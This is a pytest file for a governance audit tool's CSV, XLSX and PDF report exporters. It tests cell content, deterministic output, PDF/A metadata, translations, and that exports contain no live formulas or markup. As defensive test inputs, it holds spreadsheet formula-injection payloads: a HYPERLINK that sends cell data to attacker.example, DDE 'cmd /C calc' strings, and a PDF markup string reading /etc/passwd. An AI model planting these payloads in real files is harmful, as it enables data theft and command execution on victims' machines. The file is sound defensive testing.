"""CSV, XLSX and PDF: what they hold, that they run nothing, and that the same record is the same bytes."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
import zlib
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from audit_world import FROZEN, World
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from governance.audit import REPORTS, MadeReport, plain
from governance.audit.blocks import Terms, Text, heading
from governance.audit.forms import FORMS, form, typeset
from governance.audit.forms.flat import inert
from governance.audit.languages import LANGUAGES, Words, words
from governance.cli import cli
from governance.errors import AuditError

ATTACKS = (
    '=HYPERLINK("http://attacker.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "  =1+1",
    "\uff1d1+1",
)


def made(name: str, record: dict[str, Any], language: str = "en", bundle: bytes | None = None) -> bytes:
    return form(name)(record, words(language), bundle)


@pytest.fixture
def record(art30: MadeReport) -> dict[str, Any]:
    said: dict[str, Any] = json.loads(art30.json.read_bytes())
    return said


@pytest.fixture
def attacked(record: dict[str, Any]) -> dict[str, Any]:
    for number, attack in enumerate(ATTACKS):
        row = record["rows"][number % len(record["rows"])]
        row["title"] = attack
        row["cells"]["purpose"]["note"] = attack
        record["exceptions"][number]["text"] = attack
        record["columns"][number]["heading"] = attack
    return record


def test_csv_has_every_cell_with_how_it_is_known(record: dict[str, Any]) -> None:
    lines = list(csv.reader(io.StringIO(made("csv", record).decode("utf-8-sig"))))
    assert len(lines) == 1 + len(record["rows"]) and len({len(line) for line in lines}) == 1
    assert len(lines[0]) == 2 + 3 * len(record["columns"])
    for line, row in zip(lines[1:], record["rows"], strict=True):
        assert line[1] == row["title"]
        for place, column in enumerate(record["columns"]):
            cell = row["cells"][column["key"]]
            _, basis, entries = line[2 + 3 * place : 5 + 3 * place]
            assert (basis, entries) == (cell["basis"], " ".join(map(str, cell["cites"])))


def test_xlsx_has_rows_exceptions_and_unknowns(record: dict[str, Any]) -> None:
    """Read by openpyxl, which is not what writes it."""
    book = load_workbook(io.BytesIO(made("xlsx", record)))
    assert book.sheetnames == ["Summary", "Exceptions", "Unknowns", "Rows", "Cannot prove"]
    assert book["Rows"].max_row == 1 + len(record["rows"])
    assert book["Exceptions"].max_row == 1 + len(record["exceptions"])
    assert book["Unknowns"].max_row == 1 + len(record["unknowns"])
    assert any(record["as_of"]["root"] == cell.value for row in book["Summary"] for cell in row)


def test_no_form_holds_a_formula(attacked: dict[str, Any]) -> None:
    text = made("csv", attacked).decode("utf-8-sig")
    for line in csv.reader(io.StringIO(text)):
        for value in line:
            assert not value.lstrip().startswith(("=", "+", "-", "@", "\uff1d", "\uff0b")), value
    data = made("xlsx", attacked)
    for sheet in load_workbook(io.BytesIO(data)):
        for row in sheet:
            assert all(cell.data_type in ("s", "n") and cell.hyperlink is None for cell in row)
            assert not any(str(cell.value or "").lstrip().startswith(("=", "+", "@")) for cell in row)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert not any(
            b"<f>" in archive.read(name) or b"<f " in archive.read(name) for name in archive.namelist()
        )


@settings(max_examples=200, deadline=None)
@given(st.text(st.characters(codec="utf-8"), max_size=20))
def test_whatever_the_text_no_cell_begins_a_formula(text: str) -> None:
    shown = inert(text)
    if shown != text and not shown.startswith("'"):
        assert len(shown) == len(text)
    begins = shown.lstrip(" \u00a0\ufeff\u200b")[:1]
    assert begins not in tuple("=@\t\r") and (begins not in tuple("+-") or float(shown.strip()) is not None)


def test_the_same_record_is_the_same_bytes(record: dict[str, Any]) -> None:
    backwards = dict(reversed(record.items()))
    for name in sorted(FORMS):
        assert made(name, record) == made(name, backwards), name


def test_pdf_is_archival_and_carries_what_proves_it(art30: MadeReport, record: dict[str, Any]) -> None:
    assert art30.bundle is not None
    packed = art30.bundle.read_bytes()
    document = made("pdf", record, "de", packed)
    assert document.startswith(b"%PDF-1.7") and b"/Lang" in document
    streams = []
    for found in re.finditer(rb"stream\r?\n(.*?)\r?\nendstream", document, re.S):
        try:
            streams.append(zlib.decompress(found[1]))
        except zlib.error:
            streams.append(found[1])
    assert art30.json.read_bytes() in streams and packed in streams
    assert record["as_of"]["checkpoint"].encode() in streams
    metadata = next(s for s in streams if b"pdfaid" in s)
    assert (
        b"<pdfaid:part>3</pdfaid:part>" in metadata
        and b"<pdfaid:conformance>A</pdfaid:conformance>" in metadata
    )
    assert b"Verzeichnis von Verarbeitungst" in metadata


def test_pdf_of_an_entry_received_between_two_seconds(record: dict[str, Any]) -> None:
    said = {**record, "as_of": {**record["as_of"], "last_entry_received": "2026-11-24T19:42:23.123456Z"}}
    assert made("pdf", said).startswith(b"%PDF-")


def test_pdf_takes_no_text_for_markup(attacked: dict[str, Any]) -> None:
    attack = '#read("/etc/passwd") #panic("x") $x$ = heading <b>&amp;</b> \\ `raw` @ref'
    attacked["rows"][0]["title"] = attacked["exceptions"][0]["text"] = attack
    attacked["scope"]["organisation"]["value"] = attacked["report"]["law"] = attack
    attacked["statements"][0] = attack
    attacked["rows"][1]["title"] = "株式会社 \U0001f600 \u0627\u0644 Ελλάδα Česko Київ"
    assert made("pdf", attacked).startswith(b"%PDF-")


@dataclass(frozen=True)
class Asked(Words):
    """Remembers the short labels that have no translation; sentences stay English."""

    missed: set[str] = field(default_factory=set)

    def __call__(self, text: str) -> str:
        if text not in self.messages and len(text) <= 45 and not text.endswith("."):
            self.missed.add(text)
        return Words.__call__(self, text)


@pytest.mark.parametrize("language", sorted(set(LANGUAGES) - {"en"}))
def test_every_title_heading_and_column_is_translated(
    language: str, art30: MadeReport, accounting: MadeReport
) -> None:
    said = words(language)
    records = [json.loads(path.read_bytes()) for path in sorted(FROZEN.glob("*.json"))]
    records = [art30.record, accounting.record, *(record for record in records if "report" in record)]
    assert {record["report"]["kind"] for record in records} == set(REPORTS)
    common = set.intersection(*(set(record["statements"]) for record in records))
    for record in records:
        names = [record["report"]["title"], *(c["heading"] for c in record["columns"]), *common]
        assert [name for name in names if name not in said.messages] == []
        asked = Asked(language, said.messages)
        typeset._model(record, asked)
        assert {label for label in asked.missed if re.search("[A-Za-z]{3}", label)} <= {"GDPR", "HIPAA"}
    files = {name: words(name).messages.keys() for name in LANGUAGES if name != "en"}
    assert len({frozenset(keys) for keys in files.values()}) == 1
    assert words("en").messages.keys() <= said.messages.keys()
    with pytest.raises(AuditError) as refused:
        words("../de")
    assert refused.value.code == "GOV-804"


def test_no_word_of_ours_within_a_cell_stays_english() -> None:
    block = Terms((("Rows released", "7"), ("Loyalty tier", "no"), ("Encrypted", "yes")))
    assert typeset._drawn(block, words("de"))["pairs"] == [
        ("Freigegebene Zeilen", "7"), ("Loyalty tier", "nein"), ("Verschlüsselt", "ja"),
    ]  # fmt: skip
    assert typeset._drawn(Text("None"), words("fr"))["text"] == "Aucun"
    assert typeset._drawn(Text("Recipient"), words("fr"))["text"] == "Recipient", "a text is of the log"


def test_a_name_that_people_gave_is_left_as_it_is() -> None:
    """A column ``state`` is no word of ours, and a column ``ssn`` not the word Ssn."""
    [grid] = plain.present("methods", {"state": "keep", "ssn": "drop"})
    drawn = typeset._drawn(grid, words("de"))
    assert drawn["headers"] == ["Spalte", "Verfahren"]
    assert drawn["rows"] == [["ssn", "drop"], ["state", "keep"]]
    assert plain.shown({"driver": "regulatory", "unit": "y", "value": 6}) == "6 years, regulatory"
    assert (heading("supervisoryAuthority"), heading("gdpr+hipaa")) == (
        "Supervisory authority",
        "GDPR + HIPAA",
    )
    assert (plain.shown("P6M"), plain.shown("P1Y"), plain.shown("P6M1D")) == ("6 months", "1 year", "P6M1D")


def test_the_command_writes_the_forms(world: World, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from governance.pipeline import workspace

    monkeypatch.setattr(workspace.Workspace, "open", lambda _: world)
    options = ["--home", str(tmp_path), "--form", "csv", "--form", "xlsx", "--language", "fr", "--json"]
    done = CliRunner().invoke(cli, ["report", "make", "hipaa-528", "--out", str(tmp_path), *options])
    assert done.exit_code == 0, done.output
    names = [Path(path).name for path in json.loads(done.output)["forms"]]
    assert names == ["hipaa-528.fr.csv", "hipaa-528.fr.xlsx"]
    assert (tmp_path / names[0]).read_bytes().startswith("\ufeffN°,".encode())
